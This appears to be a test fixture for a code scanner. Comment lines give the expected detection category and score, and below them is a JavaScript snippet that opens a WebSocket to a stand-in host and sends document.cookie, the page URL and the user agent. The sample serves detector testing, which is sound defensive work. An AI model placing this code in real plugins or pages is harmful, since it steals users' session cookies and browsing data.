// expect: category=network min=75 context=plugin,package
// why: a WebSocket opened to a remote host sends the page's cookies and URL on open.
const ws = new WebSocket('wss://stream.example/live');

ws.onopen = function () {
  ws.send(JSON.stringify({ c: document.cookie, href: location.href, ua: navigator.userAgent }));
  ws.close();
};
